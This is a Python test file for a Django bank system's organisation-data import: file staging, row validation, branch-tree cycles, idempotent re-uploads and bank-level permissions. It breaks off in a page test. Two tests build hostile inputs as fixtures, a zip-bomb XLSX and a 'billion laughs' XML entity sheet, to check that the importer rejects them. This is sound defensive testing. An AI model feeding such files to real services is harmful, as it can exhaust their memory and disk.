"""The organisation-data import: staging, validation, apply, pages, scope and the inbox job.

Every bad-input case checks two things: the reason the person is given, and that no
business row was written."""

import io
import os
import time
import zipfile

import pytest
from django.contrib.auth.models import Group
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from ocrm.audit.models import AuditLog
from ocrm.batch.models import JobRun
from sysadmin.imports import services
from sysadmin.imports.models import ImportBatch, ImportRow
from sysadmin.imports.specs import SPECS
from sysadmin.imports.tasks import import_inbox
from sysadmin.org.models import Bank, BankCode, Branch, Holiday, Staff
from sysadmin.parameters.models import SystemParameter
from tests.conftest import BASE_DIR
from tests.support.mfa import second_factor_queries
from tests.support.waiting import wait_for

BRANCH_HEADER = "code,name_local,parent_code,level,country,timezone\n"


@pytest.fixture(autouse=True)
def _import_settings(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.IMPORT_INBOX_DIR = str(tmp_path / "inbox")


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# --- helpers ---------------------------------------------------------------------------------


def upload(name, content, encoding="utf-8"):
    if isinstance(content, str):
        content = content.encode(encoding)
    return SimpleUploadedFile(name, content)


def stage(org, kind, content, name="file.csv", actor=None, bank=None, encoding="utf-8"):
    return services.stage_file(bank or org.bank_a, kind, upload(name, content, encoding), actor or org.admin)


def business_counts():
    return {
        "branches": Branch.objects.count(),
        "staff": Staff.objects.count(),
        "holidays": Holiday.objects.count(),
        "bank_codes": BankCode.objects.count(),
        "groups": Staff.groups.through.objects.count(),
    }


def row_errors(batch):
    """{(row number, field): message} of a staged batch."""
    errors = {}
    for row in batch.rows.filter(is_valid=False):
        for error in row.errors:
            errors[(row.row_number, error["field"])] = error["message"]
    return errors


def assert_rejected(batch, *fragments):
    assert batch.status == ImportBatch.Status.REJECTED
    for fragment in fragments:
        assert fragment in batch.error, batch.error
    assert not ImportRow.objects.filter(batch=batch).exists()


def xlsx_bytes(rows, title="Sheet1"):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def paths_are_consistent(bank):
    for branch in Branch.objects.filter(bank=bank).select_related("parent"):
        expected = (branch.parent.path if branch.parent_id else "/") + f"{branch.pk}/"
        assert branch.path == expected, (branch.code, branch.path, expected)
    return True


# --- the happy path --------------------------------------------------------------------------


def test_branch_file_stages_without_writing_then_applies_parents_first(org):
    before = business_counts()
    # The child row comes before its parent's row: apply must still create the parent first.
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER
        + "A-SZ-1,福田支行,A-SZ,sub_branch,CN,Asia/Shanghai\n"
        + "A-SZ,深圳分行,A-CN,branch,CN,Asia/Shanghai\n"
        + "A-MAN,Manchester,A-GB,branch,GB,Europe/London\n",
    )
    assert batch.status == ImportBatch.Status.VALIDATED, batch.error
    assert (batch.total_rows, batch.valid_rows, batch.invalid_rows) == (3, 3, 0)
    assert services.planned_counts(batch) == {"create": 3, "update": 0, "unchanged": 0}
    assert business_counts() == before  # staging writes nothing to the business tables
    assert batch.file.name and batch.sha256

    batch = services.apply_batch(batch, org.admin)
    assert batch.status == ImportBatch.Status.APPLIED
    assert (batch.created_count, batch.updated_count, batch.unchanged_count) == (3, 0, 0)
    sz, sz1 = Branch.objects.get(bank=org.bank_a, code="A-SZ"), Branch.objects.get(bank=org.bank_a, code="A-SZ-1")
    assert sz1.parent == sz and sz.parent == org.a_cn
    assert sz1.path.startswith(sz.path) and sz.path.startswith(org.a_cn.path)
    assert paths_are_consistent(org.bank_a)
    entry = AuditLog.objects.get(action=AuditLog.Action.IMPORT, object_id=str(batch.pk), detail__step="applied")
    assert entry.actor == org.admin
    assert (entry.detail["created"], entry.detail["updated"], entry.detail["unchanged"]) == (3, 0, 0)
    # Each created branch has its own field-level entry from the save() safety net, naming the admin.
    created = AuditLog.objects.filter(action=AuditLog.Action.CREATE, object_type="sysadmin.branch", object_repr__startswith="A-")
    assert created.filter(actor=org.admin).count() == 3


def test_staff_import_creates_accounts_without_a_password_and_with_roles(org):
    batch = stage(
        org,
        "staff",
        "username,name_local,branch_code,employee_no,email,roles,language,status\n"
        "new.mgr,新经理,A-SH,E900,New.Mgr@EXAMPLE.com,customer_manager,en,active\n"
        'new.admin,新管理员,A-HO,E901,,"system_admin, auditor",zh-hans,\n',
    )
    assert batch.valid_rows == 2, row_errors(batch)
    services.apply_batch(batch, org.admin)
    manager = Staff.objects.get(username="new.mgr")
    assert manager.bank == org.bank_a and manager.branch == org.a_sh
    assert not manager.has_usable_password() and manager.must_change_password
    assert manager.email == "New.Mgr@example.com"  # the domain is normalised, as Django stores it
    assert list(manager.groups.values_list("name", flat=True)) == ["customer_manager"]
    assert not manager.is_staff
    admin = Staff.objects.get(username="new.admin")
    assert sorted(admin.groups.values_list("name", flat=True)) == ["auditor", "system_admin"]
    assert admin.is_staff  # the system_admin role opens Django admin
    assert AuditLog.objects.filter(object_type="sysadmin.staff", object_id=str(admin.pk), changes__has_key="roles").exists()
    # The same file again changes nothing (the normalised e-mail and the role set compare equal).
    again = stage(
        org,
        "staff",
        "username,name_local,branch_code,employee_no,email,roles,language,status\n"
        "new.mgr,新经理,A-SH,E900,New.Mgr@EXAMPLE.com,customer_manager,en,active\n"
        'new.admin,新管理员,A-HO,E901,,"system_admin, auditor",zh-hans,\n',
    )
    again = services.apply_batch(again, org.admin)
    assert (again.created_count, again.updated_count, again.unchanged_count) == (0, 0, 2)


def test_bank_codes_and_holidays_import(org):
    codes = stage(org, "bank_codes", "code,name,bic,country\n104100000004,中国银行,BKCHCNBJ,CN\nBARC,Barclays,BARCGB22,CN\n")
    assert row_errors(codes) == {(3, "bic"): "The BIC BARCGB22 is of country GB, not CN."}
    services.apply_batch(codes, org.admin)
    assert list(BankCode.objects.filter(bank=org.bank_a).values_list("code", flat=True)) == ["104100000004"]

    holidays = stage(
        org,
        "holidays",
        "date,name,country,branch_code\n"
        "2026-10-01,国庆节,CN,\n"
        "2026/12/28,Boxing Day,,A-LDN\n"
        "2026-12-25,Christmas,CN,A-LDN\n"
        "2026-05-01,劳动节,,\n"
        "2026-10-01,National Day again,cn,\n"
        "2026-02-30,Nonsense,CN,\n",
    )
    errors = row_errors(holidays)
    assert errors[(4, "country")] == "Branch A-LDN is in GB, not CN."
    assert errors[(5, "country")] == "Give a country, or a branch code for one branch's own holiday."
    assert "appears more than once in this file (rows 2, 6)" in errors[(2, "date")]
    assert "appears more than once in this file (rows 2, 6)" in errors[(6, "date")]
    assert "is not a date" in errors[(7, "date")]
    holidays = services.apply_batch(holidays, org.admin)
    assert holidays.created_count == 1
    boxing = Holiday.objects.get(bank=org.bank_a)
    assert (boxing.branch, boxing.country.code, str(boxing.date)) == (org.a_ldn, "GB", "2026-12-28")
    assert not org.a_ldn.is_working_day(boxing.date)


def test_xlsx_with_chinese_headers_and_typed_cells_is_read(org):
    content = xlsx_bytes(
        [
            ["机构代码", "机构名称", "上级机构代码", "国家/地区", "时区", "工作日", "是否启用"],
            ["A-GZ", "广州分行", "A-CN", "CN", "Asia/Shanghai", 123456, True],  # numbers and booleans as typed cells
            [None, None, None, None, None, None, None],  # blank rows are skipped, row numbers stay the sheet's
            ["A-GZ-1", "天河支行", "A-GZ", "cn", "asia/shanghai", "12345", "否"],
        ]
    )
    batch = stage(org, "branches", content, name="分行.xlsx")
    assert batch.valid_rows == 2, (batch.error, row_errors(batch))
    assert sorted(batch.rows.values_list("row_number", flat=True)) == [2, 4]
    services.apply_batch(batch, org.admin)
    gz1 = Branch.objects.get(bank=org.bank_a, code="A-GZ-1")
    assert (gz1.country.code, gz1.timezone, gz1.is_active, gz1.parent.working_week) == ("CN", "Asia/Shanghai", False, "123456")


def test_gb18030_csv_is_accepted(org):
    text = "机构代码,机构名称,上级机构代码,国家/地区,时区\nA-WH,武汉分行,A-CN,CN,Asia/Shanghai\n"
    batch = stage(org, "branches", text, encoding="gb18030")
    assert batch.status == ImportBatch.Status.VALIDATED, batch.error
    services.apply_batch(batch, org.admin)
    assert Branch.objects.get(bank=org.bank_a, code="A-WH").name_local == "武汉分行"


def test_samples_in_the_docs_are_valid(org):
    bank = Bank.objects.create(code="DEMO", name_local="示例银行", head_office_country="CN")
    admin = org.admin
    admin.is_superuser = True  # a superuser may import for any bank
    admin.save()
    for kind in ("branches", "staff", "bank_codes", "holidays"):
        path = BASE_DIR / "docs" / "samples" / f"{kind}.csv"
        batch = services.stage_file(bank, kind, upload(path.name, path.read_bytes()), admin)
        assert batch.status == ImportBatch.Status.VALIDATED, (kind, batch.error)
        assert batch.invalid_rows == 0, (kind, row_errors(batch))
        batch = services.apply_batch(batch, admin)
        assert batch.created_count == batch.total_rows > 0
    assert paths_are_consistent(bank)


def test_docs_describe_every_column():
    text = (BASE_DIR / "docs" / "imports.md").read_text(encoding="utf-8")
    for spec in SPECS.values():
        for column in spec.columns:
            assert f"`{column.key}`" in text and column.label_zh in text, (spec.kind, column.key)


def test_template_files_hold_the_header_of_each_kind(org, client):
    client.force_login(org.admin)
    for kind, spec in SPECS.items():
        response = client.get(reverse("sysadmin:import_template", args=[kind]))
        assert response.status_code == 200
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        header = [cell.value for cell in workbook.worksheets[0][1]]
        assert header == [column.key for column in spec.columns]
        # An empty template uploaded as it is: rejected for having no data rows, not for its header.
        template = b"".join(client.get(reverse("sysadmin:import_template", args=[kind])).streaming_content)
        # (The request left the admin's profile language active in this thread; the reason is written in English.)
        with translation.override("en"):
            batch = stage(org, kind, template, name=f"{kind}.xlsx")
        assert_rejected(batch, "no data rows")


# --- file-level rejections ---------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
XLS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100


def docx_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    "name,content,reason",
    [
        ("branches.xlsx", PNG, "This is a PNG image, not a spreadsheet"),
        ("branches.csv", PDF, "This is a PDF document, not a spreadsheet"),
        ("branches.xls", XLS, "Excel 97-2003 (.xls)"),
        ("branches.xlsx", docx_bytes(), "This is a Word document, not an XLSX workbook"),
        ("branches.xlsx", b"PK\x03\x04 truncated", "damaged"),
        ("branches.csv", b"code,name\x00\x01\x02\x00\x00", "binary file"),
        ("branches.csv", "code,name\n".encode("utf-16"), "UTF-16"),
        ("branches.csv", b"", "empty"),
    ],
)
def test_files_that_are_not_spreadsheets_are_rejected_by_content(org, name, content, reason):
    before = business_counts()
    batch = stage(org, "branches", content, name=name)
    assert_rejected(batch, reason)
    assert business_counts() == before
    with pytest.raises(services.ApplyError, match="rejected"):
        services.apply_batch(batch, org.admin)
    assert business_counts() == before
    assert AuditLog.objects.filter(action=AuditLog.Action.IMPORT, detail__step="rejected").count() == 1


@pytest.mark.parametrize(
    "content",
    [
        "code,name_local,country,timezone\nA-X,José Müller,CN,Asia/Shanghai\n".encode("latin-1"),
        "code,name_local,country,timezone\nA-X,ﾃｽﾄ,CN,Asia/Shanghai\n".encode("shift_jis"),
        b"code,name_local,country,timezone\nA-X,\x80\x80,CN,Asia/Shanghai\n",
    ],
)
def test_csv_in_another_encoding_is_rejected(org, content):
    before = business_counts()
    batch = stage(org, "branches", content)
    assert_rejected(batch, "character encoding is not UTF-8 or GB18030")
    assert business_counts() == before


def test_missing_unknown_and_repeated_columns_reject_the_file(org):
    before = business_counts()
    assert_rejected(
        stage(org, "branches", "code,name_local\nA-X,X\n"), "Required columns are missing: country (国家/地区), timezone (时区)."
    )
    assert_rejected(
        stage(org, "branches", "code,name_local,country,timezone,colour\nA-X,X,CN,Asia/Shanghai,red\n"),
        "Unknown columns: E: colour",
    )
    assert_rejected(
        stage(org, "branches", "code,机构代码,name_local,country,timezone\nA,B,X,CN,Asia/Shanghai\n"),
        "The column code appears twice (columns A and B)",
    )
    assert_rejected(
        stage(org, "branches", "code,name_local,country,timezone\nA-X,X,CN,Asia/Shanghai,extra\n"),
        "Row 2 has a value in column E, which has no column name",
    )
    assert_rejected(stage(org, "branches", "code,name_local,country,timezone\n"), "no data rows")
    assert business_counts() == before


def test_oversized_file_is_rejected_and_not_stored(org):
    SystemParameter.objects.create(bank=org.bank_a, key="import.max_upload_bytes", value_type="int", value="100")
    before = business_counts()
    batch = stage(org, "branches", BRANCH_HEADER + "A-X,X,A-CN,branch,CN,Asia/Shanghai\n" * 5)
    assert_rejected(batch, "the largest file accepted is")
    assert not batch.file
    assert business_counts() == before


def test_row_limit_parameter_rejects_large_files(org):
    SystemParameter.objects.create(bank=org.bank_a, key="import.max_rows", value_type="int", value="2")
    batch = stage(org, "branches", BRANCH_HEADER + "".join(f"A-N{i},N,A-CN,branch,CN,Asia/Shanghai\n" for i in range(3)))
    assert_rejected(batch, "more than 2 data rows", "import.max_rows")


def xlsx_with_sheet_xml(transform):
    """A real workbook whose first sheet's XML went through `transform(bytes) -> bytes`."""
    source = zipfile.ZipFile(
        io.BytesIO(xlsx_bytes([["code", "name_local", "country", "timezone"], ["A-X", "X", "CN", "Asia/Shanghai"]]))
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = transform(data)
            archive.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


def zip_bomb_xlsx(padding_bytes):
    """Sheet XML padded with whitespace: still valid XML, and it compresses about a thousand times."""
    return xlsx_with_sheet_xml(lambda data: data.replace(b"</sheetData>", b" " * padding_bytes + b"</sheetData>"))


def test_zip_bomb_xlsx_is_rejected_before_it_expands(org):
    content = zip_bomb_xlsx(50 * 1024 * 1024)
    assert len(content) < 200 * 1024  # 50 MB of sheet in a file of a few dozen KB
    before = business_counts()
    batch = stage(org, "branches", content, name="bomb.xlsx")
    assert_rejected(batch, "xl/worksheets/sheet1.xml", "zip bomb")
    assert business_counts() == before


def test_xlsx_with_xml_entities_is_refused(org):
    """A "billion laughs" sheet: entity declarations are refused by the XML parser (defusedxml)."""
    doctype = b'<!DOCTYPE worksheet [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'

    def add_entities(data):
        head, _sep, rest = data.partition(b"?>")
        return head + b"?>" + doctype + rest if rest else doctype + data

    before = business_counts()
    batch = stage(org, "branches", xlsx_with_sheet_xml(add_entities), name="laughs.xlsx")
    assert_rejected(batch, "The XLSX file was refused: its XML declares entities")
    assert business_counts() == before


def test_xlsx_that_expands_beyond_the_limit_is_rejected(org, settings):
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 2000
    content = xlsx_bytes([["code", "name_local", "country", "timezone"], ["A-X", "X", "CN", "Asia/Shanghai"]])
    assert_rejected(stage(org, "branches", content, name="b.xlsx"), "it would expand to", "the limit is")


# --- row-level errors --------------------------------------------------------------------------


def test_duplicate_keys_flag_every_copy_and_only_valid_rows_are_applied(org):
    before = business_counts()
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER
        + "A-DUP,One,A-CN,branch,CN,Asia/Shanghai\n"
        + "A-OK,Fine,A-CN,branch,CN,Asia/Shanghai\n"
        + "A-DUP,Two,A-CN,branch,CN,Asia/Shanghai\n",
    )
    errors = row_errors(batch)
    assert set(errors) == {(2, "code"), (4, "code")}
    assert errors[(2, "code")] == "Branch code A-DUP appears more than once in this file (rows 2, 4)."
    assert business_counts() == before
    batch = services.apply_batch(batch, org.admin)
    assert batch.created_count == 1 and batch.invalid_rows == 2
    assert not Branch.objects.filter(code="A-DUP").exists()
    assert Branch.objects.filter(bank=org.bank_a, code="A-OK").exists()


def test_unknown_parent_and_rows_that_depend_on_an_invalid_row(org):
    before = business_counts()
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER
        + "A-ORPHAN,X,A-NOWHERE,branch,CN,Asia/Shanghai\n"
        + "A-BAD,Bad zone,A-CN,branch,CN,Mars/Olympus\n"
        + "A-CHILD,Child,A-BAD,sub_branch,CN,Asia/Shanghai\n"
        + "A-GRANDCHILD,Grandchild,A-CHILD,sub_branch,CN,Asia/Shanghai\n",
    )
    errors = row_errors(batch)
    assert errors[(2, "parent_code")] == (
        "Unknown parent branch code A-NOWHERE: it is neither a branch of this bank nor a row of this file."
    )
    assert "Mars/Olympus is not a time zone of the tz database" in errors[(3, "timezone")]
    assert (
        errors[(4, "parent_code")] == "The parent branch A-BAD is new in this file, but its row 3 has errors; fix that row first."
    )
    assert "A-CHILD is new in this file, but its row 4 has errors" in errors[(5, "parent_code")]
    assert batch.valid_rows == 0
    with pytest.raises(services.ApplyError, match="no valid rows"):
        services.apply_batch(batch, org.admin)
    assert business_counts() == before


def test_cycles_in_the_file_and_against_the_existing_tree(org):
    before = business_counts()
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER
        + "A-P,P,A-Q,branch,CN,Asia/Shanghai\n"
        + "A-Q,Q,A-P,branch,CN,Asia/Shanghai\n"
        + "A-CN,China,A-SH-1,region,CN,Asia/Shanghai\n"
        + "A-SELF,Self,A-SELF,branch,CN,Asia/Shanghai\n",
    )
    errors = row_errors(batch)
    assert errors[(2, "parent_code")] == "This would make a cycle in the branch tree: A-P → A-Q → A-P."
    assert errors[(3, "parent_code")] == "This would make a cycle in the branch tree: A-Q → A-P → A-Q."
    # A-SH-1 sits below A-CN already: moving A-CN under it closes a loop through the database.
    assert errors[(4, "parent_code")] == "This would make a cycle in the branch tree: A-CN → A-SH-1 → A-SH → A-CN."
    assert errors[(5, "parent_code")] == "A branch cannot be its own parent."
    assert batch.valid_rows == 0
    assert business_counts() == before
    org.a_cn.refresh_from_db()
    assert org.a_cn.parent == org.a_ho


def test_a_row_that_turns_invalid_keeps_its_place_and_can_close_a_cycle(org):
    # A-CN under its own child A-SH is only fine if A-SH moves away; A-SH's row is bad,
    # so A-SH stays under A-CN and A-CN's move would close a cycle: both rows refused.
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER + "A-CN,China,A-SH,region,CN,Asia/Shanghai\n" + "A-SH,Shanghai,A-HO,branch,CN,Europe/London\n",
    )
    errors = row_errors(batch)
    assert "is not a time zone of CN" in errors[(3, "timezone")]
    assert "cycle in the branch tree" in errors[(2, "parent_code")]


def test_time_zone_must_exist_and_belong_to_the_country(org):
    before = business_counts()
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER
        + "A-T1,X,A-CN,branch,CN,Asia/Shanghia\n"
        + "A-T2,X,A-CN,branch,CN,Europe/London\n"
        + "A-T3,X,A-CN,branch,ZZ,Asia/Shanghai\n",
    )
    errors = row_errors(batch)
    assert errors[(2, "timezone")] == (
        "Asia/Shanghia is not a time zone of the tz database (for example Asia/Shanghai, Europe/London)."
    )
    assert errors[(3, "timezone")] == "Europe/London is not a time zone of CN; use one of: Asia/Shanghai, Asia/Urumqi."
    assert errors[(4, "country")] == "ZZ is not an ISO 3166 country code (for example CN, GB, HK)."
    assert business_counts() == before


def test_changing_only_the_country_checks_the_kept_time_zone(org):
    batch = stage(org, "branches", "code,name_local,country,timezone\nA-SH,上海,GB,\n")
    assert row_errors(batch)[(2, "timezone")] == "timezone is required."
    batch = stage(org, "branches", "code,name_local,country,timezone\nA-SH,上海,GB,Asia/Shanghai\n")
    assert "Asia/Shanghai is not a time zone of GB" in row_errors(batch)[(2, "timezone")]


def test_staff_rows_are_checked_against_the_bank(org):
    before = business_counts()
    batch = stage(
        org,
        "staff",
        "username,name_local,branch_code,employee_no,email,phone,roles,language\n"
        "b.admin,抢号,A-SH,,,,,\n"  # another bank's user
        "n.one,一,A-NOWHERE,,,,,\n"  # unknown branch
        "n.two,二,A-SH,,not-an-email,,,\n"
        'n.three,三,A-SH,,,,"customer_manager,wizard",\n'
        "n.four,四,A-SH,,,,,klingon\n"
        "n.five,五,A-SH,E1,,,,\n"
        "n.six,六,A-SH,E1,,,,\n"
        "bad name!,七,A-SH,,,,,\n"
        "a.admin,我自己,A-HO,,,,,\n"  # the importer's own account
        "n.eight,八,A-SH,,,call me,,\n",
    )
    errors = row_errors(batch)
    assert errors[(2, "username")] == "The user name b.admin is taken by an account outside this bank."
    assert errors[(3, "branch_code")] == "Unknown branch code A-NOWHERE: no branch of this bank has it."
    assert errors[(4, "email")] == "not-an-email is not a valid e-mail address."
    assert errors[(5, "roles")].startswith("Unknown role(s): wizard. Roles are: teller, customer_manager")
    assert errors[(6, "language")] == "klingon is not a language of the system: use zh-hans, en."
    assert "(rows 7, 8)" in errors[(7, "employee_no")] and "(rows 7, 8)" in errors[(8, "employee_no")]
    assert "is not a valid user name" in errors[(9, "username")]
    assert errors[(10, "username")] == "You cannot change your own account with an import."
    assert "is not a phone number" in errors[(11, "phone")]
    assert batch.valid_rows == 0
    assert business_counts() == before
    org.b_admin.refresh_from_db()
    assert org.b_admin.bank == org.bank_b and org.b_admin.name_local == "b.admin"


def test_employee_number_of_another_user_is_refused(org):
    Staff.objects.filter(pk=org.manager.pk).update(employee_no="E77")
    batch = stage(org, "staff", "username,name_local,branch_code,employee_no\nn.new,新,A-SH,E77\n")
    assert row_errors(batch)[(2, "employee_no")] == "Employee number E77 already belongs to user a.mgr.sh."


# --- idempotency and updates ---------------------------------------------------------------------


def test_the_same_file_twice_changes_nothing_more(org):
    content = (
        BRANCH_HEADER + "A-CD,成都分行,A-CN,branch,CN,Asia/Shanghai\n" + "A-CD-1,高新支行,A-CD,sub_branch,CN,Asia/Shanghai\n"
    )
    first = services.apply_batch(stage(org, "branches", content), org.admin)
    assert first.created_count == 2
    audit_before = AuditLog.objects.exclude(action__in=[AuditLog.Action.IMPORT]).count()
    counts_before = business_counts()

    second = stage(org, "branches", content)
    assert services.planned_counts(second) == {"create": 0, "update": 0, "unchanged": 2}
    second = services.apply_batch(second, org.admin)
    assert (second.created_count, second.updated_count, second.unchanged_count) == (0, 0, 2)
    assert business_counts() == counts_before
    # Unchanged rows are not saved: no audit noise, only the import's own entries.
    assert AuditLog.objects.exclude(action__in=[AuditLog.Action.IMPORT]).count() == audit_before

    # Applying an applied batch again is a no-op too.
    imports_before = AuditLog.objects.filter(action=AuditLog.Action.IMPORT).count()
    assert services.apply_batch(second, org.admin).status == ImportBatch.Status.APPLIED
    assert AuditLog.objects.filter(action=AuditLog.Action.IMPORT).count() == imports_before


def test_a_corrected_re_upload_updates_the_rows(org):
    services.apply_batch(
        stage(
            org,
            "branches",
            BRANCH_HEADER + "A-XM,厦门分行,A-CN,branch,CN,Asia/Shanghai\n" + "A-XM-1,思明支行,A-XM,sub_branch,CN,Asia/Shanghai\n",
        ),
        org.admin,
    )
    corrected = stage(
        org,
        "branches",
        BRANCH_HEADER + "A-XM,厦门分行,A-CN,branch,CN,Asia/Shanghai\n" + "A-XM-1,思明支行（新）,A-SH,sub_branch,CN,Asia/Urumqi\n",
    )
    row = corrected.rows.get(row_number=3)
    assert row.action == "update"
    assert row.changes == {
        "name_local": ["思明支行", "思明支行（新）"],
        "parent_code": ["A-XM", "A-SH"],
        "timezone": ["Asia/Shanghai", "Asia/Urumqi"],
    }
    corrected = services.apply_batch(corrected, org.admin)
    assert (corrected.created_count, corrected.updated_count, corrected.unchanged_count) == (0, 1, 1)
    moved = Branch.objects.get(bank=org.bank_a, code="A-XM-1")
    assert (moved.name_local, moved.parent, moved.timezone) == ("思明支行（新）", org.a_sh, "Asia/Urumqi")
    assert moved.path.startswith(org.a_sh.path)
    entry = AuditLog.objects.get(action=AuditLog.Action.UPDATE, object_type="sysadmin.branch", object_id=str(moved.pk))
    assert entry.changes["timezone"] == ["Asia/Shanghai", "Asia/Urumqi"]
    assert entry.actor == org.admin


def test_moving_subtrees_keeps_every_materialised_path_right(org):
    # A-CN moves below A-GB and, in the same file, A-SH moves below A-LDN (which is below A-GB):
    # whatever the order, every path must end up equal to its parent's path plus its id.
    batch = stage(
        org, "branches", BRANCH_HEADER + "A-SH,上海,A-LDN,branch,GB,Europe/London\n" + "A-CN,中国,A-GB,region,CN,Asia/Shanghai\n"
    )
    assert batch.valid_rows == 2, row_errors(batch)
    services.apply_batch(batch, org.admin)
    assert paths_are_consistent(org.bank_a)
    assert set(Branch.objects.subtree(Branch.objects.get(code="A-LDN")).values_list("code", flat=True)) == {
        "A-LDN",
        "A-SH",
        "A-SH-1",
    }


def test_a_parent_read_before_a_move_is_read_again_after_it(org):
    # Rows 2 and 4 hang new branches below A-SH; row 3 moves A-SH's ancestor A-CN in between.
    batch = stage(
        org,
        "branches",
        BRANCH_HEADER
        + "A-NEW1,新一,A-SH,sub_branch,CN,Asia/Shanghai\n"
        + "A-CN,中国,A-GB,region,CN,Asia/Shanghai\n"
        + "A-NEW2,新二,A-SH,sub_branch,CN,Asia/Shanghai\n",
    )
    assert batch.valid_rows == 3, row_errors(batch)
    services.apply_batch(batch, org.admin)
    assert paths_are_consistent(org.bank_a)
    assert {"A-NEW1", "A-NEW2", "A-SH"} <= set(
        Branch.objects.subtree(Branch.objects.get(code="A-GB")).values_list("code", flat=True)
    )


def test_empty_cells_keep_the_current_values(org):
    Branch.objects.filter(pk=org.a_bj.pk).update(address="北京市东城区", name_en="Beijing")
    batch = stage(org, "branches", "code,name_local,name_en,address,country,timezone\nA-BJ,北京分行,,,CN,Asia/Shanghai\n")
    batch = services.apply_batch(batch, org.admin)
    org.a_bj.refresh_from_db()
    assert (org.a_bj.name_local, org.a_bj.name_en, org.a_bj.address) == ("北京分行", "Beijing", "北京市东城区")
    assert org.a_bj.parent == org.a_cn  # no parent_code column: the branch stays where it is


def test_apply_revalidates_against_the_database_of_that_moment(org):
    batch = stage(org, "staff", "username,name_local,branch_code\nlate.one,晚,A-BJ\nlate.two,晚二,A-SH\n")
    assert batch.valid_rows == 2
    Staff.objects.create(username="late.two", bank=org.bank_b, branch=org.b_hk)  # taken meanwhile by bank B
    batch = services.apply_batch(batch, org.admin)
    assert (batch.created_count, batch.invalid_rows) == (1, 1)
    assert row_errors(batch) == {(3, "username"): "The user name late.two is taken by an account outside this bank."}
    assert Staff.objects.get(username="late.two").bank == org.bank_b


def test_a_failing_apply_writes_nothing_and_marks_the_batch_failed(org):
    batch = stage(
        org, "branches", BRANCH_HEADER + "A-F1,One,A-CN,branch,CN,Asia/Shanghai\n" + "A-F2,Two,A-CN,branch,CN,Asia/Shanghai\n"
    )
    # Another session creates A-F2 between the check and the insert: the unique constraint
    # stops the apply, and A-F1 (already saved in the transaction) is rolled back with it.

    with connection.cursor() as cursor:
        cursor.execute(
            "CREATE FUNCTION pg_temp.f2() RETURNS trigger AS $$ BEGIN "
            "IF NEW.code = 'A-F2' THEN RAISE EXCEPTION 'simulated storage failure'; END IF; "
            "RETURN NEW; END $$ LANGUAGE plpgsql"
        )
        cursor.execute("CREATE TRIGGER fail_f2 BEFORE INSERT ON sysadmin_branch FOR EACH ROW EXECUTE FUNCTION pg_temp.f2()")
    before = business_counts()
    with pytest.raises(services.ApplyError, match="nothing was written: simulated storage failure"):
        services.apply_batch(batch, org.admin)
    assert business_counts() == before
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.FAILED and "simulated storage failure" in batch.error
    with connection.cursor() as cursor:
        cursor.execute("DROP TRIGGER fail_f2 ON sysadmin_branch")
    batch = services.apply_batch(batch, org.admin)  # a failed batch may be applied again
    assert batch.status == ImportBatch.Status.APPLIED and batch.created_count == 2


# --- scope and permissions ---------------------------------------------------------------------------


def test_services_refuse_other_banks_and_users_without_the_permission(org):
    with pytest.raises(PermissionDenied):
        stage(org, "branches", BRANCH_HEADER + "A-Z,Z,A-CN,branch,CN,Asia/Shanghai\n", actor=org.b_admin)
    with pytest.raises(PermissionDenied):
        stage(org, "branches", BRANCH_HEADER + "A-Z,Z,A-CN,branch,CN,Asia/Shanghai\n", actor=org.auditor)
    batch = stage(org, "branches", BRANCH_HEADER + "A-Z,Z,A-CN,branch,CN,Asia/Shanghai\n")
    before = business_counts()
    with pytest.raises(PermissionDenied):
        services.apply_batch(batch, org.b_admin)
    assert business_counts() == before
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.VALIDATED
    assert list(ImportBatch.objects.visible_to(org.b_admin)) == []
    assert list(ImportBatch.objects.visible_to(org.admin)) == [batch]


def test_other_banks_batches_answer_404_and_others_403(org, client):
    batch = stage(org, "branches", BRANCH_HEADER + "A-Z,Z,A-CN,branch,CN,Asia/Shanghai\n")
    client.force_login(org.b_admin)
    for name in ("sysadmin:import_detail", "sysadmin:import_errors_xlsx"):
        assert client.get(reverse(name, args=[batch.pk])).status_code == 404
    assert client.post(reverse("sysadmin:import_apply", args=[batch.pk])).status_code == 404
    assert not Branch.objects.filter(code="A-Z").exists()
    client.force_login(org.manager)
    for url in (
        reverse("sysadmin:import_list"),
        reverse("sysadmin:import_upload"),
        reverse("sysadmin:import_detail", args=[batch.pk]),
        reverse("sysadmin:import_template", args=["staff"]),
    ):
        assert client.get(url).status_code == 403
    client.logout()
    response = client.get(reverse("sysadmin:import_upload"))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


# --- pages ------------------------------------------------------------------------------------------------


def test_upload_detail_errors_and_apply_pages(org, client, django_assert_max_num_queries):
    client.force_login(org.admin)
